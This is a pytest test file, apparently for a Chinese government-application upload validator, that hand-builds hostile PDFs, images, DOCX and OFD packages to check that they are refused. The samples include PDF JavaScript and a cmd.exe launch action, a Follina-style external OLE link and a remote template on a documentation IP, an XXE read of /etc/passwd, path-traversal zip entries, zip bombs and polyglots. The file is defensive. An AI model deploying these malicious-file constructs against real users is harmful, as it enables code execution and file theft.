"""Uploads of application materials: what is accepted, what is refused and why, and encrypted storage.

Every file here is built by hand the way real producers lay them out (PDF with cross-reference table
or cross-reference stream, baseline JPEG, PNG, OOXML and OFD packages), so the checks meet the
structures they meet in production, and the attacks are the published ones: JavaScript hidden in a
compressed object stream, a remote template, a macro project, a zip bomb, "../" entry names.
"""

import hashlib
import hmac
import io
import struct
import warnings
import zipfile
import zlib

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from tongban.core import crypto
from tongban.core.crypto import DecryptionError, decrypt_bytes, encrypt_bytes
from tongban.core.errors import InvalidInput, NotFound
from tongban.core.files import check_batch, clean_name, inspect_upload, load, sniff, store
from tongban.core.i18n import bilingual

KEY_A = "a0" * 32
KEY_B = "b1" * 32
MB = 1024 * 1024


# --- builders ------------------------------------------------------------------------------------


def stream(data: bytes, attributes: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), attributes) + data + b"\nendstream"


def pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n" % (len(objects) + 1, trailer, xref)
    return bytes(out) + b"%%EOF\n"


def pdf_with_object_stream(
    packed: dict[int, bytes], plain: dict[int, bytes], *, trailer: bytes = b""
) -> bytes:
    """A PDF 1.5 file as modern producers write it: dictionaries packed into a FlateDecode object
    stream, located through a cross-reference stream. Object 1 is the catalogue."""
    objstm, xref_number = max(packed | plain) + 1, max(packed | plain) + 2
    header, body = b"", b""
    for number, text in packed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    compressed = zlib.compress(header + body)
    plain = {
        **plain,
        objstm: stream(
            compressed, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (len(packed), len(header))
        ),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, text in sorted(plain.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    offsets[xref_number] = len(out)
    rows = b""
    packed_index = {number: i for i, number in enumerate(packed)}
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in packed_index:
            rows += struct.pack(">BIH", 2, objstm, packed_index[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF)
    attributes = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode %s" % (
        xref_number + 1,
        trailer,
    )
    out += b"%d 0 obj\n" % xref_number + stream(zlib.compress(rows), attributes) + b"\nendobj\n"
    out += b"startxref\n%d\n" % offsets[xref_number]
    return bytes(out) + b"%%EOF\n"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>"
DRAWING = stream(b"0 0 1 rg 20 20 100 100 re f")


def simple_pdf(catalog: bytes = CATALOG, *extra: bytes) -> bytes:
    return pdf([catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, DRAWING, *extra])


def two_page_pdf_with_object_stream(catalog: bytes = CATALOG, extra: dict[int, bytes] | None = None) -> bytes:
    packed = {
        1: catalog,
        2: b"<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>",
        3: PAGE,
        5: PAGE,
        **(extra or {}),
    }
    return pdf_with_object_stream(packed, {4: DRAWING})


def png(width: int = 1, height: int = 1, *, idat: bytes | None = None) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = idat if idat is not None else zlib.compress(b"\x00\xff\x00\x00" * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    """A baseline 8×8 grey JPEG: one Huffman code each for "DC difference 0" and "end of block"."""

    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    counts_one_code_of_length_one = bytes([1] + [0] * 15)
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, b"\x00" + b"\x01" * 64)
        + segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
        + segment(0xC4, b"\x00" + counts_one_code_of_length_one + b"\x00")
        + segment(0xC4, b"\x10" + counts_one_code_of_length_one + b"\x00")
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # bits 0 (DC: no change) 0 (AC: end of block), padded with ones
        + b"\xff\xd9"
    )


def zip_bytes(entries: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # duplicate names are one of the attacks
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="{main}"/>
<Override PartName="/docProps/app.xml" ContentType="{app}"/>
</Types>"""
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
APP_PROPERTIES = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(*rows: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    )


def docx(
    extra: dict[str, bytes | str] | None = None, *, main: str = DOCX_MAIN, document: str | None = None
) -> bytes:
    entries = {
        "[Content_Types].xml": CONTENT_TYPES.format(main=main, app=APP_PROPERTIES),
        "_rels/.rels": relationships(
            f'<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="word/document.xml"/>',
            f'<Relationship Id="rId2" Type="{RELS}/extended-properties" Target="docProps/app.xml"/>',
        ),
        "word/document.xml": document
        or '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>营业执照副本</w:t></w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": relationships(
            f'<Relationship Id="rId9" Type="{RELS}/hyperlink" Target="https://www.gov.cn/" '
            'TargetMode="External"/>'
        ),
        "docProps/app.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Pages>3</Pages></Properties>",
    }
    entries.update(extra or {})
    return zip_bytes(entries)


def xlsx(extra: dict[str, bytes | str] | None = None) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return zip_bytes(
        {
            "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": relationships(
                f'<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="xl/workbook.xml"/>'
            ),
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            **(extra or {}),
        }
    )


OFD_NS = 'xmlns:ofd="http://www.ofdspec.org/2016"'


def ofd(extra: dict[str, bytes | str] | None = None) -> bytes:
    page = (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Page {OFD_NS}>'
        '<ofd:Content><ofd:Layer ID="9"/></ofd:Content></ofd:Page>'
    )
    return zip_bytes(
        {
            "OFD.xml": f'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD {OFD_NS} Version="1.0" DocType="OFD">'
            "<ofd:DocBody><ofd:DocInfo><ofd:DocID>6c6f63616c</ofd:DocID></ofd:DocInfo>"
            "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
            "Doc_0/Document.xml": f'<?xml version="1.0" encoding="UTF-8"?><ofd:Document {OFD_NS}>'
            "<ofd:CommonData><ofd:MaxUnitID>10</ofd:MaxUnitID><ofd:PageArea>"
            "<ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages>"
            '<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/>'
            '<ofd:Page ID="2" BaseLoc="Pages/Page_1/Content.xml"/></ofd:Pages></ofd:Document>',
            "Doc_0/Pages/Page_0/Content.xml": page,
            "Doc_0/Pages/Page_1/Content.xml": page,
            **(extra or {}),
        }
    )


def codes(exc: InvalidInput, field: str = "file") -> list[str]:
    return [problem.code for problem in exc.fields[field]]


def refused(name: str, data: bytes, **limits) -> list[str]:
    with pytest.raises(InvalidInput) as caught:
        inspect_upload(name, data, **limits)
    assert set(caught.value.fields) == {"file"}
    return codes(caught.value)


# --- accepted files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "kind", "pages"),
    [
        ("申请书.pdf", simple_pdf, "pdf", 1),
        ("承诺书.pdf", two_page_pdf_with_object_stream, "pdf", 2),
        ("身份证正面.jpg", jpeg, "jpeg", 1),
        ("户口本.PNG", png, "png", 1),
        ("营业执照.docx", docx, "docx", 3),
        ("电子证照.ofd", ofd, "ofd", 2),
    ],
)
def test_real_files_of_each_accepted_kind_pass(name, build, kind, pages):
    data = build()
    found = inspect_upload(name, data)
    assert (found.kind, found.size, found.pages) == (kind, len(data), pages)
    assert found.sm3 == crypto.sm3_hex(data) and len(found.sm3) == 64
    assert found.name == clean_name(name, kind)
    assert sniff(data) == kind


def test_content_type_is_ours_not_the_browsers():
    assert inspect_upload("a.jpeg", jpeg()).content_type == "image/jpeg"
    assert inspect_upload("a.ofd", ofd()).content_type == "application/ofd"


def test_a_name_without_extension_takes_the_sniffed_one():
    assert inspect_upload("C:\\Users\\张三\\Desktop\\身份证 反面", jpeg()).name == "身份证 反面.jpg"


def test_binary_image_data_that_happens_to_look_like_pdf_keys_is_not_refused():
    # The bytes of an image can contain "/AA <<" or "/JS (" by chance; they are not dictionaries.
    pixels = (b"/AA << /JS (x) >>" + bytes(range(47)))[:64]
    image = stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 ",
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> >> >>"
    )
    drawing = stream(b"q 100 0 0 100 50 50 cm /Im0 Do Q")
    data = pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, drawing, image])
    assert inspect_upload("scan.pdf", data).kind == "pdf"


def test_a_docx_may_link_to_a_web_page_and_embed_a_chart_workbook():
    chart_rels = relationships(
        f'<Relationship Id="rId1" Type="{RELS}/package" '
        'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>'
    )
    data = docx(
        {
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
            "word/charts/_rels/chart1.xml.rels": chart_rels,
        }
    )
    assert inspect_upload("经营报告.docx", data).kind == "docx"


def test_an_e_invoice_style_ofd_with_an_xml_attachment_is_accepted():
    data = ofd(
        {"Doc_0/Attachs/Attachments.xml": f"<ofd:Attachments {OFD_NS}/>", "Doc_0/Attachs/invoice.xml": "<i/>"}
    )
    assert inspect_upload("发票.ofd", data).kind == "ofd"


# --- refused: basics -----------------------------------------------------------------------------


def test_empty_file():
    assert refused("a.pdf", b"") == ["empty"]


def test_too_large_names_the_limit_in_mb():
    data = simple_pdf(CATALOG, stream(b"\x00" * MB))
    with pytest.raises(InvalidInput) as caught:
        inspect_upload("big.pdf", data, max_bytes=MB)
    (problem,) = caught.value.fields["file"]
    assert problem.code == "too_large"
    assert "1 MB" in str(problem.message)
    assert inspect_upload("big.pdf", data, max_bytes=2 * MB).kind == "pdf"


def test_default_size_limit_comes_from_settings(settings):
    settings.TONGBAN_UPLOAD_MAX_BYTES = 100
    assert refused("a.pdf", simple_pdf()) == ["too_large"]


@pytest.mark.parametrize(
    "data",
    [
        b"just some text, not a document\n",
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100,  # a Windows program
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    ],
)
def test_other_types_are_not_allowed(data):
    assert refused("材料.pdf", data) == ["type_not_allowed"]


def test_a_spreadsheet_is_not_a_docx():
    assert refused("表格.docx", xlsx()) == ["type_not_allowed"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("invoice.pdf", b"<!DOCTYPE html><html><body><script>fetch('/api')</script></body></html>"),
        ("photo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("scan.jpg", "\ufeff<html><script>alert(1)</script></html>".encode("utf-16")),
        ("polyglot.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + simple_pdf()[9:]),
    ],
)
def test_html_and_svg_in_disguise(name, data):
    assert refused(name, data) == ["disguised_markup"]


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("photo.jpg", png),
        ("scan.png", jpeg),
        ("report.docx", simple_pdf),
        ("证照.pdf", ofd),
        ("setup.exe", simple_pdf),
    ],
)
def test_extension_must_match_the_content(name, build):
    assert refused(name, build()) == ["extension_mismatch"]


def test_right_to_left_override_cannot_hide_the_real_extension():
    # Shown as "invoiceexe.pdf" in many file managers; the name really ends in .exe.
    assert refused("invoice\u202efdp.exe", simple_pdf()) == ["extension_mismatch"]


def test_every_problem_of_one_file_is_reported():
    macro = docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    assert refused("合同.pdf", macro) == ["extension_mismatch", "active_content"]


# --- refused: PDF --------------------------------------------------------------------------------

JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.mark.parametrize(
    "data",
    [
        simple_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", JS_ACTION),
        simple_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS 5 0 R >> >>", stream(b"x")
        ),
        simple_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
        simple_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>", b"<< /Names [] >>"
        ),
        simple_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>", stream(b"<xdp/>")
        ),
        simple_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 5 0 R >> >>", b"<< /S /GoTo /D [3 0 R /Fit] >>"
        ),
        simple_pdf(CATALOG, b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
        pdf(
            [
                CATALOG,
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /AA << /O 5 0 R >> >>",
                DRAWING,
                b"<< /S /Named /N /Print >>",
            ]
        ),
    ],
    ids=[
        "javascript",
        "hex-escaped-name",
        "launch",
        "embedded-files",
        "xfa",
        "additional-actions",
        "rich-media",
        "page-aa",
    ],
)
def test_pdf_active_content(data):
    assert refused("申请书.pdf", data) == ["active_content"]


def test_pdf_javascript_hidden_in_a_compressed_object_stream():
    data = two_page_pdf_with_object_stream(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", {6: JS_ACTION}
    )
    assert b"JavaScript" not in data and b"OpenAction" not in data  # only visible once inflated
    assert refused("申请书.pdf", data) == ["active_content"]


def test_pdf_object_stream_that_inflates_past_the_cap(settings):
    settings.TONGBAN_UPLOAD_PDF_MAX_INFLATED = MB
    data = two_page_pdf_with_object_stream(CATALOG, {6: b"(" + b" " * (2 * MB) + b")"})
    assert len(data) < 64 * 1024
    assert refused("申请书.pdf", data) == ["decompression_bomb"]


def test_pdf_object_stream_hidden_inside_another_stream_body():
    hidden = b"9 0 obj\n" + stream(
        zlib.compress(b"6 0 " + JS_ACTION), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "
    )
    data = simple_pdf(CATALOG, stream(hidden))
    assert refused("申请书.pdf", data) == ["damaged"]


def test_encrypted_pdf_whose_object_streams_cannot_be_read():
    data = pdf_with_object_stream({1: CATALOG}, {}, trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 >> ")
    start = data.index(b"stream\n", data.index(b"/ObjStm")) + len(b"stream\n")
    data = data[:start] + b"\x00\x01" + data[start + 2 :]  # ciphertext is not a zlib stream
    assert refused("加密.pdf", data) == ["encrypted"]


def test_truncated_pdf_is_damaged():
    data = simple_pdf()
    assert refused("申请书.pdf", data[: len(data) // 2]) == ["damaged"]


# --- refused: images -----------------------------------------------------------------------------


def test_truncated_jpeg_is_damaged():
    assert refused("photo.jpg", jpeg()[:-2]) == ["damaged"]


def test_jpeg_without_a_frame_header_is_damaged():
    assert refused("photo.jpg", b"\xff\xd8\xff\xe0\x00\x04ab\xff\xda\x00\x02\x00\xff\xd9") == ["damaged"]


def test_png_with_a_wrong_checksum_is_damaged():
    data = bytearray(png())
    data[30] ^= 0xFF  # inside the IHDR chunk
    assert refused("photo.png", bytes(data)) == ["damaged"]


def test_png_with_only_a_signature_is_damaged():
    assert refused("photo.png", b"\x89PNG\r\n\x1a\n") == ["damaged"]


def test_image_claiming_too_many_pixels():
    assert refused("photo.png", png(20_000, 20_000, idat=zlib.compress(b"\x00"))) == ["too_many_pixels"]


def test_zip_bomb_messages_name_the_limit_and_the_real_sizes(settings):
    data = docx({"word/media/filler.xml": b"\x00" * (10 * MB)})
    with pytest.raises(InvalidInput) as caught:
        inspect_upload("材料.docx", data)
    (problem,) = caught.value.fields["file"]
    text = bilingual(problem.message)
    assert "10 MB" in text["en"] and "200" in text["en"]  # the entry's size and the ratio limit
    assert f"{round(len(data) / 1024)} KB" in text["en"]
    settings.TONGBAN_UPLOAD_ZIP_MAX_BYTES = 64 * 1024
    big = ofd({"Doc_0/Res/font.ttf": bytes(range(256)) * 300})
    with pytest.raises(InvalidInput) as caught:
        inspect_upload("材料.ofd", big)
    (problem,) = caught.value.fields["file"]
    unpacked = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(big)).infolist())
    assert "64 KB" in bilingual(problem.message)["en"]
    assert f"{round(unpacked / 1024)} KB" in bilingual(problem.message)["en"]


# --- refused: polyglots (one file, two formats) ----------------------------------------------------


def _pillow_image(kind: str, **options) -> bytes:
    from PIL import Image

    image = Image.new("RGB", (64, 48), (200, 30, 30))
    out = io.BytesIO()
    image.save(out, format=kind, **options)
    return out.getvalue()


ARCHIVE = zip_bytes({"readme.txt": "hidden payload", "run.bat": "calc.exe"})


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("photo.png", png() + ARCHIVE),
        ("photo.png", _pillow_image("PNG") + ARCHIVE),
        ("photo.jpg", jpeg() + ARCHIVE),
        ("photo.jpg", _pillow_image("JPEG") + ARCHIVE),
        ("photo.jpg", _pillow_image("JPEG", progressive=True) + ARCHIVE),
        ("photo.png", png(idat=bytes(range(256)) * 8) + b"<html><script>alert(1)</script></html>"),
        ("申请书.pdf", simple_pdf() + ARCHIVE),
        ("申请书.pdf", simple_pdf() + zip_bytes({"a.txt": "x"})[:200]),
    ],
    ids=[
        "png+zip",
        "pillow-png+zip",
        "jpeg+zip",
        "pillow-jpeg+zip",
        "progressive-jpeg+zip",
        "png+html",
        "pdf+zip",
        "pdf+zip-fragment",
    ],
)
def test_data_after_the_end_of_the_file_is_refused(name, data):
    with pytest.raises(InvalidInput) as caught:
        inspect_upload(name, data)
    (problem,) = caught.value.fields["file"]
    assert problem.code == "polyglot"
    text = bilingual(problem.message)
    assert "after" in text["en"] and text["zh-Hans"] != text["en"]


def test_a_zip_hidden_inside_a_pdf_is_refused():
    """A stream holding an archive near the end: unzip tools find its end record and open it."""
    data = simple_pdf(CATALOG, stream(ARCHIVE))
    assert zipfile.is_zipfile(io.BytesIO(data))  # a real polyglot
    assert refused("申请书.pdf", data) == ["polyglot"]


def test_a_pdf_header_inside_an_image_is_refused():
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    good = png()
    iend = good.index(b"IEND") - 4
    hidden = good[:iend] + chunk(b"tEXt", b"Comment\x00%PDF-1.7\n1 0 obj") + good[iend:]
    assert refused("photo.png", hidden) == ["polyglot"]


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("photo.jpg", _pillow_image("JPEG") + b"\x00" * 512, "jpeg"),  # zero padding some cameras write
        ("photo.png", png() + b"\x00" * 16, "png"),
        ("photo.jpg", _pillow_image("JPEG", progressive=True), "jpeg"),
        ("photo.jpg", _pillow_image("JPEG", restart_marker_blocks=1), "jpeg"),
        (
            "photo.jpg",
            _pillow_image("JPEG") + _pillow_image("JPEG", quality=30),
            "jpeg",
        ),  # MPF: a second view
        ("申请书.pdf", simple_pdf() + b"\r\n", "pdf"),
    ],
    ids=["jpeg-padding", "png-padding", "progressive", "restart-markers", "multi-picture", "pdf-newline"],
)
def test_what_real_producers_write_after_the_end_is_accepted(name, data, kind):
    assert inspect_upload(name, data).kind == kind


def test_an_incrementally_updated_pdf_is_accepted():
    first = simple_pdf()
    update = (
        b"5 0 obj\n<< /Title (v2) >>\nendobj\nxref\n0 1\n0000000000 65535 f \n5 1\n%010d 00000 n \n"
        b"trailer\n<< /Size 6 /Root 1 0 R /Info 5 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(first), first.rindex(b"xref"), len(first) + 40)
    )
    assert inspect_upload("申请书.pdf", first + update).kind == "pdf"


# --- refused: DOCX and OFD -----------------------------------------------------------------------

ATTACHED_TEMPLATE = relationships(
    f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://203.0.113.7/t.dotm" '
    'TargetMode="External"/>'
)
FOLLINA = relationships(
    f'<Relationship Id="rId7" Type="{RELS}/oleObject" Target="mhtml:http://203.0.113.7/x.html!x" '
    'TargetMode="External"/>'
)


@pytest.mark.parametrize(
    "data",
    [
        docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        docx({"word/activeX/activeX1.bin": b"\x00" * 10}),
        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        docx({"word/settings.xml": "<w:settings/>", "word/_rels/settings.xml.rels": ATTACHED_TEMPLATE}),
        docx({"word/_rels/document.xml.rels": FOLLINA}),
        docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx({"xl/vbaProject.bin": b"\xd0\xcf"})}),
        docx(
            document='<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
        ),
        docx(
            {
                "word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
            }
        ),
        ofd({"Doc_0/Attachs/run.exe": b"MZ\x90\x00"}),
        ofd({"vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    ],
    ids=[
        "vba-project",
        "macro-enabled-content-type",
        "activex",
        "ole-object",
        "remote-template",
        "external-ole-object",
        "macro-in-embedded-workbook",
        "dtd-entity",
        "svg-script",
        "ofd-executable-attachment",
        "ofd-macro",
    ],
)
def test_package_active_content(data):
    name = "材料.ofd" if sniff(data) == "ofd" else "材料.docx"
    assert refused(name, data) == ["active_content"]


@pytest.mark.parametrize(
    "entry",
    [
        "../../../etc/cron.d/evil",
        "/etc/passwd",
        "word\\..\\..\\evil.xml",
        "C:/Windows/evil.xml",
        "word/../../evil.xml",
    ],
)
def test_package_entries_with_unsafe_names(entry):
    assert refused("材料.docx", docx({entry: "x"})) == ["unsafe_path"]


def test_package_with_duplicate_entry_names():
    # Case differs: OPC part names are case-insensitive, and readers disagree which copy wins.
    assert refused("材料.docx", docx({"Word/Document.xml": "<w:document/>"})) == ["unsafe_path"]


def test_zip_bomb_by_compression_ratio():
    data = docx({"word/media/filler.xml": b"\x00" * (10 * MB)})
    assert len(data) < 100 * 1024
    assert refused("材料.docx", data) == ["decompression_bomb"]


def test_zip_bomb_by_total_size(settings):
    settings.TONGBAN_UPLOAD_ZIP_MAX_BYTES = 64 * 1024
    assert refused("材料.ofd", ofd({"Doc_0/Res/font.ttf": bytes(range(256)) * 300})) == ["decompression_bomb"]


def test_zip_with_too_many_entries(settings):
    settings.TONGBAN_UPLOAD_ZIP_MAX_ENTRIES = 10
    data = ofd({f"Doc_0/Pages/Page_{i}/Content.xml": "<p/>" for i in range(2, 12)})
    assert refused("材料.ofd", data) == ["decompression_bomb"]


def test_zip_with_encrypted_entries():
    data = bytearray(docx())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flag_offset] |= 0x01
            at = data.find(signature, at + 4)
    assert refused("材料.docx", bytes(data)) == ["encrypted"]


def test_zip_with_a_corrupted_entry_is_damaged():
    data = bytearray(ofd({"Doc_0/Res/photo.png": png(40, 40)}))
    at = data.index(b"Doc_0/Res/photo.png") + len("Doc_0/Res/photo.png") + 10
    data[at] ^= 0xFF
    assert refused("材料.ofd", bytes(data)) == ["damaged"]


# --- names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "kind", "clean"),
    [
        ("C:\\Users\\张三\\Desktop\\身份证 正面.JPG", "jpeg", "身份证 正面.jpg"),
        ("/home/李四/../../etc/营业执照.pdf", "pdf", "营业执照.pdf"),
        ("申请\x00书\r\n.pdf", "pdf", "申请书.pdf"),
        ("invoice\u202egpj.pdf", "pdf", "invoicegpj.pdf"),
        ('a<b>c:"d"|e?f*.png', "png", "a_b_c__d__e_f_.png"),
        ("  ..hidden.pdf.  ", "pdf", "hidden.pdf"),
        ("CON.pdf", "pdf", "_CON.pdf"),
        ("", "ofd", "file.ofd"),
        ("../..", "pdf", "file.pdf"),
        ("扫描件.2024", "pdf", "扫描件.2024.pdf"),
        ("张三.身份证", "jpeg", "张三.身份证.jpg"),
        ("营业执照\u3000副本.docx", "docx", "营业执照 副本.docx"),
    ],
)
def test_clean_name(raw, kind, clean):
    assert clean_name(raw, kind) == clean


def test_clean_name_limits_length_and_keeps_the_extension():
    cleaned = clean_name("很长的材料名称" * 40 + ".pdf", "pdf")
    assert len(cleaned) == 100 and cleaned.endswith("材料.pdf")


# --- batches -------------------------------------------------------------------------------------


def test_batch_reports_every_problem_at_once():
    files = [
        ("申请书.pdf", simple_pdf()),
        ("照片.png", b"<svg onload=alert(1)>"),
        ("身份证.jpg", jpeg()),
        ("合同.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"})),
        ("空.pdf", b""),
    ]
    total = sum(len(data) for _, data in files)
    with pytest.raises(InvalidInput) as caught:
        check_batch(files, max_files=3, max_bytes=MB, max_total_bytes=total - 1)
    fields = caught.value.fields
    assert set(fields) == {"count", "total", "files[1]", "files[3]", "files[4]"}
    assert codes(caught.value, "count") == ["too_many_files"]
    assert codes(caught.value, "total") == ["total_too_large"]
    assert codes(caught.value, "files[1]") == ["disguised_markup"]
    assert codes(caught.value, "files[3]") == ["active_content"]
    assert codes(caught.value, "files[4]") == ["empty"]
    assert "3" in str(fields["count"][0].message)


def test_batch_of_good_files(settings):
    settings.TONGBAN_UPLOAD_MAX_FILES = 3
    found = check_batch([("a.pdf", simple_pdf()), ("b.jpg", jpeg()), ("c.ofd", ofd())])
    assert [f.kind for f in found] == ["pdf", "jpeg", "ofd"]
    with pytest.raises(InvalidInput) as caught:
        check_batch([("a.pdf", simple_pdf())] * 4)
    assert set(caught.value.fields) == {"count"}


def test_batch_per_file_limit():
    with pytest.raises(InvalidInput) as caught:
        check_batch(
            [("a.png", png()), ("b.pdf", simple_pdf())], max_files=5, max_bytes=len(png()), max_total_bytes=MB
        )
    assert set(caught.value.fields) == {"files[1]"} and codes(caught.value, "files[1]") == ["too_large"]


# --- encryption of bytes -------------------------------------------------------------------------


def ref_hkdf_sm3(master_hex: str, info: str, length: int) -> bytes:
    """RFC 5869 with SM3 written out with hashlib, independent of tongban.core.crypto."""
    prk = hmac.new(b"tongban-kdf-v1", bytes.fromhex(master_hex), "sm3").digest()
    okm, block, counter = b"", b"", 1
    while len(okm) < length:
